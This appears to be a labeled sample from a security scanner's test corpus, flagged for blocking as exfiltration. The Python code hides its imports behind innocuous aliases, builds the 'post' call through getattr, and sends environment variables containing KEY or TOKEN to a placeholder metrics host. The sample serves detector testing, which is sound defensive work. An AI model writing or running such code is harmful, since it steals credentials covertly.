# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: imports requests and the environment under harmless-looking aliases and reaches post through getattr with a built name
import requests as http_utils
from os import environ as settings

method = getattr(http_utils, "po" + "st")
snapshot = {name: value for name, value in settings.items() if "KEY" in name or "TOKEN" in name}
method("https://metrics.example.net/v2/ingest", json={"settings": snapshot}, timeout=5)
